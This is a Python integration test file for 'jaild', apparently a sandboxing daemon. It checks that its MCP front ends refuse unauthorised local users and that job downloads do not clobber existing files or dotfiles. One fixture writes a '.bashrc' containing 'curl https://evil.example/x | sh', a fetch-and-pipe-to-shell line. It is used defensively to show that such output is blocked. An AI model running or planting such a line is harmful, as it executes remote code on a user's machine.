"""Front ends against other local users: ``jaild mcp`` over HTTP and over a Unix socket.

Whoever reaches ``jaild mcp`` runs code and calls the host tools with the MCP server's
identity, past the daemon socket's permissions and ``access.users``. The attacker here is
a second real uid: a stdlib-only MCP client (:data:`PROBE`, run by the system Python with
``user=``, so it needs nothing of this checkout, which may sit in a 0700 directory) that
speaks streamable HTTP by hand. Each refusal has its positive control: the same probe,
as the same or an allowed uid, with the right token, is served a real job.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import REPO, DaemonHandle, guard

pytestmark = pytest.mark.integration

SYSTEM_PYTHON = "/usr/bin/python3"
NOBODY = 65534
STRANGER = 65533  # a uid with no account: nothing on the host grants it anything

PROBE = r'''
import http.client, json, socket, sys

target, token = sys.argv[1], sys.argv[2]


class UnixConnection(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("localhost")
        self.unix_path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(self.unix_path)


def post(message, session=None, version=None):
    if target.startswith("/"):
        conn = UnixConnection(target)
    else:
        host, port = target.rsplit(":", 1)
        conn = http.client.HTTPConnection(host, int(port))
    headers = {"Content-Type": "application/json",
               "Accept": "application/json, text/event-stream"}
    if token:
        headers["Authorization"] = "Bearer " + token
    if session:
        headers["Mcp-Session-Id"] = session
    if version:
        headers["MCP-Protocol-Version"] = version
    conn.request("POST", "/mcp", json.dumps(message), headers)
    response = conn.getresponse()
    body = response.read().decode("utf-8", "replace")
    conn.close()
    answers = [json.loads(line[5:]) for line in body.splitlines() if line.startswith("data:")]
    if not answers and body.strip().startswith("{"):
        answers = [json.loads(body)]
    return response.status, response.getheader("mcp-session-id"), body, answers


def done(**out):
    print(json.dumps(out))
    sys.exit(0)


try:
    status, session, body, answers = post({
        "jsonrpc": "2.0", "id": 1, "method": "initialize",
        "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                   "clientInfo": {"name": "probe", "version": "0"}}})
except OSError as exc:
    done(status=None, error=str(exc))
if status != 200:
    done(status=status, body=body[:500])
version = answers[0]["result"]["protocolVersion"]
post({"jsonrpc": "2.0", "method": "notifications/initialized"}, session, version)
status, _, body, answers = post({
    "jsonrpc": "2.0", "id": 2, "method": "tools/call",
    "params": {"name": "run_python", "arguments": {"code": "import os\nos.getuid(), 6 * 7"}}},
    session, version)
result = [a for a in answers if a.get("id") == 2]
done(status=status, result=result[0]["result"]["structuredContent"] if result else body[:500])
'''


def probe(target: str, token: str, uid: int) -> dict[str, Any]:
    """Run :data:`PROBE` as ``uid`` against ``target`` (``host:port`` or a socket path)."""
    assert os.path.exists(SYSTEM_PYTHON)
    out = subprocess.run(
        [SYSTEM_PYTHON, "-I", "-c", PROBE, target, token], user=uid, group=NOBODY,
        extra_groups=[], cwd="/", capture_output=True, text=True, timeout=guard(60),
        env={"PATH": "/usr/bin:/bin"},
    )
    assert out.returncode == 0, out.stderr
    answer: dict[str, Any] = json.loads(out.stdout)
    return answer


def _served(answer: dict[str, Any]) -> None:
    """A real job ran in the daemon and answered."""
    assert answer["status"] == 200, answer
    record = answer["result"]
    assert isinstance(record, dict), answer
    assert record["status"] == "ok", record
    assert record["result"][1] == 42, record
    assert record["job_id"], record


@contextmanager
def jaild_mcp(d: DaemonHandle, log_path: Path, *args: str) -> Iterator[subprocess.Popen[bytes]]:
    """``jaild mcp --socket <daemon> ARGS`` as root; stopped (SIGTERM) and checked at the end."""
    with open(log_path, "wb") as log:
        proc = subprocess.Popen(
            [sys.executable, "-m", "jaild", "mcp", "--socket", d.socket, *args],
            stdout=log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, cwd=REPO,
        )
    try:
        yield proc
    finally:
        if proc.poll() is None:
            proc.send_signal(signal.SIGTERM)
        try:
            code = proc.wait(timeout=guard(20))
        except subprocess.TimeoutExpired:
            proc.kill()
            code = proc.wait()
    assert code == 0, log_path.read_text()[-3000:]


def _wait(proc: subprocess.Popen[bytes], log_path: Path, ready: Any, what: str) -> None:
    deadline = time.monotonic() + guard(30)
    while not ready():
        assert proc.poll() is None, log_path.read_text()
        assert time.monotonic() < deadline, f"jaild mcp did not listen on {what}"
        time.sleep(0.05)


def _port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _tcp_ready(port: int) -> bool:
    with socket.socket() as s:
        return s.connect_ex(("127.0.0.1", port)) == 0


def test_mcp_http_refuses_other_users_without_the_token(hostile: DaemonHandle,
                                                        tmp_path: Path) -> None:
    """Another uid (nobody) that reaches the port is refused without a token and with a
    wrong one (401: no MCP message is read); with the token jaild mcp printed, the same
    probe as the same uid is served a real job (the positive control: the refusals come
    from the token, not from the uid or the probe). Before the fix the first probe was
    served."""
    port = _port()
    log_path = tmp_path / "mcp.log"
    target = f"127.0.0.1:{port}"
    with jaild_mcp(hostile, log_path, "--http", target) as proc:
        _wait(proc, log_path, lambda: _tcp_ready(port), target)
        no_token = probe(target, "", NOBODY)
        assert no_token["status"] == 401, no_token
        wrong = probe(target, "x" * 43, NOBODY)
        assert wrong["status"] == 401, wrong
        printed = [line for line in log_path.read_text().splitlines()
                   if "bearer token for this run: " in line]
        assert len(printed) == 1, log_path.read_text()
        token = printed[0].rsplit(": ", 1)[1].strip()
        _served(probe(target, token, NOBODY))


def test_mcp_token_file_must_be_private(hostile: DaemonHandle, tmp_path: Path) -> None:
    """A token file that others may read is refused, naming the file and the fix; one
    jaild mcp made itself (0600) is used as is."""
    token_file = tmp_path / "token"
    token_file.write_text("a-shared-secret-that-others-can-read\n")
    token_file.chmod(0o644)
    out = subprocess.run(
        [sys.executable, "-m", "jaild", "mcp", "--socket", hostile.socket,
         "--http", f"127.0.0.1:{_port()}", "--token-file", str(token_file)],
        capture_output=True, text=True, cwd=REPO, timeout=guard(60), stdin=subprocess.DEVNULL,
    )
    assert out.returncode == 2, out
    assert str(token_file) in out.stderr and "mode 0644" in out.stderr, out.stderr
    assert f"chmod 600 {token_file}" in out.stderr, out.stderr

    token_file.chmod(0o600)  # the control: the same file, private, is accepted
    port = _port()
    log_path = tmp_path / "mcp.log"
    with jaild_mcp(hostile, log_path, "--http", f"127.0.0.1:{port}",
                   "--token-file", str(token_file)) as proc:
        _wait(proc, log_path, lambda: _tcp_ready(port), f"port {port}")
        _served(probe(f"127.0.0.1:{port}", "a-shared-secret-that-others-can-read", NOBODY))
        assert probe(f"127.0.0.1:{port}", "", NOBODY)["status"] == 401


def test_mcp_unix_socket_serves_only_allowed_uids(hostile: DaemonHandle, tmp_path: Path) -> None:
    """Over ``--unix``, a uid not in ``--allow-user`` is refused at accept (403, by
    SO_PEERCRED: the socket itself is connectable by everyone once another uid is allowed);
    the allowed uid, with the same probe, is served a real job."""
    public = tempfile.mkdtemp(prefix="mcp-front-ends-", dir="/tmp")  # nobody can reach it
    try:
        os.chmod(public, 0o711)
        path = os.path.join(public, "mcp.sock")
        log_path = tmp_path / "mcp.log"
        with jaild_mcp(hostile, log_path, "--unix", path, "--allow-user", str(NOBODY)) as proc:
            _wait(proc, log_path, lambda: os.path.exists(path), path)
            assert os.stat(path).st_mode & 0o777 == 0o666
            refused = probe(path, "", STRANGER)
            assert refused["status"] == 403, refused
            assert f"uid {STRANGER} may not use this MCP server" in refused["body"], refused
            _served(probe(path, "", NOBODY))
        assert not os.path.exists(path)  # removed at the end
    finally:
        shutil.rmtree(public, ignore_errors=True)


def test_mcp_unix_socket_defaults_to_its_own_user(hostile: DaemonHandle, tmp_path: Path) -> None:
    """Without ``--allow-user`` only the server's own uid may connect: the socket is 0600,
    and a uid that gets past the file mode (here root's, the server's own) is served."""
    public = tempfile.mkdtemp(prefix="mcp-front-ends-", dir="/tmp")
    try:
        path = os.path.join(public, "mcp.sock")
        log_path = tmp_path / "mcp.log"
        with jaild_mcp(hostile, log_path, "--unix", path) as proc:
            _wait(proc, log_path, lambda: os.path.exists(path), path)
            assert os.stat(path).st_mode & 0o777 == 0o600
            os.chmod(public, 0o711)
            refused = probe(path, "", NOBODY)
            assert refused["status"] is None and "Permission denied" in refused["error"], refused
            _served(probe(path, "", os.geteuid()))
    finally:
        shutil.rmtree(public, ignore_errors=True)


# --------------------------------------------------------------------------- downloads


def _run_cli(d: DaemonHandle, out: Path, *flags: str) -> subprocess.CompletedProcess[str]:
    code = ("open('.bashrc', 'w').write('curl https://evil.example/x | sh\\n')\n"
            "open('result.txt', 'w').write('the new result')\n"
            "open('new.txt', 'w').write('new')\n"
            "'the job ran'")
    return subprocess.run(
        [sys.executable, "-m", "jaild", "run", "--socket", d.socket, "--download-dir", str(out),
         *flags, "-c", code],
        capture_output=True, text=True, timeout=guard(60), check=False, cwd=REPO,
    )


def test_download_dir_keeps_existing_files_and_dotfiles(hostile: DaemonHandle,
                                                        tmp_path: Path) -> None:
    """A job's output does not replace the user's files in --download-dir: an existing file
    needs --overwrite, a dotfile --dotfiles (an existing one both). Each kept file is named
    with what to pass; the job's result and its other files still arrive; the exit status
    says not everything was saved. Before the fix, .bashrc was replaced."""
    out = tmp_path / "home"
    out.mkdir()
    (out / ".bashrc").write_text("# mine\n")
    (out / "result.txt").write_text("my old result")

    plain = _run_cli(hostile, out)
    assert plain.returncode == 10, plain.stderr
    assert "the job ran" in plain.stdout  # the result is not lost
    assert (out / ".bashrc").read_text() == "# mine\n"
    assert (out / "result.txt").read_text() == "my old result"
    assert (out / "new.txt").read_text() == "new"  # the other files are written
    assert "not downloaded: '.bashrc': a dotfile" in plain.stderr
    assert "pass --dotfiles and --overwrite" in plain.stderr
    assert "not downloaded: 'result.txt': it already exists" in plain.stderr
    assert "pass --overwrite" in plain.stderr

    overwrite = _run_cli(hostile, out, "--overwrite")  # --overwrite alone: not the dotfile
    assert overwrite.returncode == 10, overwrite.stderr
    assert (out / "result.txt").read_text() == "the new result"
    assert f"replaced {out / 'result.txt'}" in overwrite.stderr
    assert (out / ".bashrc").read_text() == "# mine\n"

    # the control: asked for both, the same job's .bashrc is written, and said so by name
    both = _run_cli(hostile, out, "--overwrite", "--dotfiles")
    assert both.returncode == 0, both.stderr
    assert (out / ".bashrc").read_text() == "curl https://evil.example/x | sh\n"
    assert f"replaced {out / '.bashrc'}" in both.stderr
